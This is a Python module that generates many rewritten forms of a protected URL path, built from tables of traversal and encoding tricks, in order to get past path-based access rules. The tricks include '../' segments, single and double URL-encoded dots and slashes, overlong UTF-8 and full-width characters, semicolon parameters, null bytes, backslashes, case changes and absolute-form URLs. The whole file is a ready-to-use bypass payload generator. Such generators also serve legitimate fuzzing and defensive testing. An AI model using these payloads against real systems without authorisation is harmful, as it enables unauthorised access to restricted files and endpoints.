"""Ways to write a path so that a rule for it is walked past, made from classes of tricks."""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

UP = {
    "dot segment": ("..", "../.", "./.."),
    "encoded dots": ("%2e%2e", "%2E%2E", ".%2e", "%2e.", "%2e%2E"),
    "dots encoded twice": ("%252e%252e", "%25%32%65%25%32%65", ".%252e"),
    "dots with parameters": ("..;", "..;x=1", "..%3b", "%2e%2e;", ";/.."),
    "overlong or wide dots": (
        "%c0%ae%c0%ae",
        "%e0%80%ae%e0%80%ae",
        "%uff0e%uff0e",
        "%ef%bc%8e%ef%bc%8e",
        "\uff0e\uff0e",
    ),
    "more dots": ("...", "....", "..././.", ".../...//.."),
    "dots with null or space": ("..%00", "%00..", "..%20", "..%09", "..%0d", "..%0a", "..%ff"),
}
BETWEEN = {
    "slash": ("/",),
    "slashes": ("//", "///", "/.//", "/./"),
    "encoded slash": ("%2f", "%2F", "/%2f", "%2f/", "%2f%2f"),
    "slash encoded twice": ("%252f", "%25%32%66"),
    "backslash": ("\\", "%5c", "%5C", "\\/", "/\\", "%255c"),
    "overlong slash": ("%c0%af", "%e2%88%95", "\u2215"),
    "parameters": ("/;/", "/;x=1/", "/%3b/"),
}


@dataclass(frozen=True, slots=True)
class Try:
    """One target of a request."""

    kind: str
    target: str


def tries(closed: str, opened: tuple[str, ...]) -> list[Try]:
    """Ways to `closed`, such as `/secret`, some of them by way of what is open."""
    every = [
        *_through(closed, opened),
        *_from_the_root(closed),
        *_spelled(closed),
        *_ends(closed),
        *_other_forms(closed, opened),
    ]
    found = {each.target: each for each in every}
    return list(found.values())


def _through(closed: str, opened: tuple[str, ...]) -> Iterator[Try]:
    """Into something open, and out of it again."""
    name = closed.removeprefix("/")
    ups = [(kind, up) for kind, each in UP.items() for up in each]
    betweens = [(kind, way) for kind, each in BETWEEN.items() for way in each]
    for place, (kind, up), (way_kind, way) in product(opened, ups, betweens):
        if kind == "dot segment" or way_kind in {"slash", "encoded slash", "backslash"}:
            yield Try(f"{kind}, {way_kind}", f"{place}/{up}{way}{name}")
            yield Try(f"{kind}, {way_kind}", f"{place}{way}{up}{way}{name}")
    for place, depth in product(opened, range(2, 5)):
        yield Try("several up", f"{place}/{'../' * depth}{name}")
        yield Try("several up", f"{place}/{'x/' * depth}{'../' * (depth + 1)}{name}")
        yield Try("several up", f"{place}/{'%2e%2e/' * depth}{name}")


def _from_the_root(closed: str) -> Iterator[Try]:
    name = closed.removeprefix("/")
    for kind, ways in BETWEEN.items():
        for way in ways:
            yield Try(kind, f"/{way}{name}")
            yield Try(kind, f"{way}{name}" if way.startswith("/") else f"/.{way}{name}")
            yield Try(kind, f"{closed}{way}")
            yield Try(kind, f"{closed}{way}x")
            yield Try(kind, f"{closed}{way}..{way}{name}")


def _spelled(closed: str) -> Iterator[Try]:
    name = closed.removeprefix("/")
    for index, letter in enumerate(name):
        if letter == "/":
            continue
        before, after = name[:index], name[index + 1 :]
        code = f"{ord(letter):02x}"
        yield Try("encoded letter", f"/{before}%{code}{after}")
        yield Try("letter encoded twice", f"/{before}%25{code}{after}")
        yield Try("wide letter", f"/{before}%u00{code}{after}")
        yield Try("case", f"/{before}{letter.upper()}{after}")
        yield Try("null", f"/{before}{letter}%00{after}")
        yield Try("null", f"/{before}{letter}\x00{after}")
        yield Try("soft hyphen", f"/{before}{letter}%c2%ad{after}")
    yield Try("case", closed.upper())
    yield Try("encoded letter", "/" + "".join(f"%{ord(each):02x}" for each in name))
    yield Try("encoded letter", "/" + "".join(f"%{ord(each):02X}" for each in name))


def _ends(closed: str) -> Iterator[Try]:
    for end in (
        *("/", "//", "/.", "/./", "/..", ".", "..", "...", "~", "*", "/*", "'", '"', "`", "|", "&"),
        *(";", ";x", ";x=1", ";/", "%3b", "?", "??", "?x", "?x=/open", "#", "#x", "%23", "%3f"),
        *("%20", "%09", "%00", "%0a", "%0d", "%0d%0a", "%2e", "%2f", "%5c", "%ff", "%c2%a0"),
        *(".json", ".html", ".php", "/index.html", "%2findex.html", "/%2e", "/%2e%2e", "%", "%2"),
    ):
        yield Try("end", f"{closed}{end}")


def _other_forms(closed: str, opened: tuple[str, ...]) -> Iterator[Try]:
    for host in ("test", "other", "127.0.0.1", "user@test", "test:80", "[::1]", ""):
        yield Try("absolute form", f"http://{host}{closed}")
        yield Try("absolute form", f"http://{host}/{closed}")
        yield Try("absolute form", f"HTTP://{host}{closed}")
        yield Try("absolute form", f"https://{host}{closed}")
    yield Try("no slash", closed.removeprefix("/"))
    yield Try("asterisk", f"*{closed}")
    for place in opened:
        for mark in ("#", "?", "%23", "%3f", ";", "%00", "%0d%0a", "\t", "@"):
            yield Try("fragment and query", f"{place}{mark}/..{closed}")
            yield Try("fragment and query", f"{place}{mark}{closed}")
            yield Try("fragment and query", f"{closed}{mark}/..{place}")
            yield Try("fragment and query", f"{closed}/..{mark}{place}")
